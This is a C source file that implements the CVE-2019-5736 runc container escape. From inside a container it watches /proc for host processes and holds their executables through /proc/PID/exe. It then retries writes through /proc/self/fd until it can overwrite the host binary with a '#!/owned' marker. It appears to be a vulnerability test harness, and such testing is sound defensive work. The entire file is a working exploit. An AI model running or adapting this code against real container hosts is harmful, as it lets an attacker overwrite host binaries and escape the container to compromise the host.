/*
 * CVE-2019-5736 from inside: overwrite the program of whoever put something into this container.
 *
 *   overwrite MILLISECONDS STOP-FILE
 *
 * Looks through /proc without a pause. The program of each process that is not the container's own
 * is opened for reading through /proc/PID/exe, which keeps it reachable when the process is gone,
 * and then tried for writing through /proc/self/fd/N until nobody runs it any more (ETXTBSY).
 * Prints "saw PATH" for each program whose name it could read, "held PATH" where it got a
 * descriptor, "wrote PATH" where it could write, and "looks N".
 */
#include <dirent.h>
#include <fcntl.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#define MAX_HELD 32
#define MAX_SEEN 64

static const char owned[] = "#!/owned\n";

static struct held {
	char path[256];
	int fd;
	bool wrote;
} held[MAX_HELD];

static char own[256], seen[MAX_SEEN][256];
static unsigned count, seen_count, looks;
static size_t own_folder;

static double now(void)
{
	struct timespec t;

	clock_gettime(CLOCK_MONOTONIC, &t);
	return (double)t.tv_sec * 1e3 + (double)t.tv_nsec / 1e6;
}

static bool is_new(const char *path)
{
	for (unsigned i = 0; i < seen_count; i++)
		if (!strcmp(seen[i], path))
			return false;
	if (seen_count < MAX_SEEN)
		snprintf(seen[seen_count++], sizeof(seen[0]), "%s", path);
	return true;
}

static bool try_write(struct held *h, const char *path)
{
	int fd = open(path, O_WRONLY | O_CLOEXEC);

	if (fd < 0)
		return false;
	h->wrote = pwrite(fd, owned, sizeof(owned) - 1, 0) > 0;
	close(fd);
	if (h->wrote)
		printf("wrote %s\n", h->path);
	return h->wrote;
}

static void hold(const char *exe, const char *path)
{
	struct held *h = &held[count];

	for (unsigned i = 0; i < count; i++)
		if (!strcmp(held[i].path, path))
			return;
	if (count == MAX_HELD)
		return;
	h->fd = open(exe, O_RDONLY | O_CLOEXEC);
	if (h->fd < 0)
		return;
	snprintf(h->path, sizeof(h->path), "%s", path);
	printf("held %s\n", path);
	count++;
}

static void look(void)
{
	DIR *dir = opendir("/proc");
	struct dirent *entry;

	looks++;
	while (dir && (entry = readdir(dir))) {
		char exe[64], path[256] = "";

		if (strtol(entry->d_name, NULL, 10) < 1)
			continue;
		snprintf(exe, sizeof(exe), "/proc/%ld/exe",
			 strtol(entry->d_name, NULL, 10));
		if (readlink(exe, path, sizeof(path) - 1) < 0 || !strcmp(path, own))
			continue;
		if (is_new(path))
			printf("saw %s\n", path);
		/* What comes with the container is its own. */
		if (strncmp(path, "/usr/", 5) != 0 && strncmp(path, own, own_folder) != 0)
			hold(exe, path);
	}
	if (dir)
		closedir(dir);
	for (unsigned i = 0; i < count; i++) {
		char path[64];

		snprintf(path, sizeof(path), "/proc/self/fd/%d", held[i].fd);
		if (!held[i].wrote)
			try_write(&held[i], path);
	}
}

int main(int argc, char **argv)
{
	struct stat st;
	double end;

	if (argc != 3 || readlink("/proc/self/exe", own, sizeof(own) - 1) < 0)
		return 2;
	own_folder = (size_t)(strrchr(own, '/') - own);
	setvbuf(stdout, NULL, _IOLBF, 0);
	end = now() + strtod(argv[1], NULL);
	while (now() < end && stat(argv[2], &st) < 0)
		look();
	printf("looks %u\n", looks);
	return 0;
}
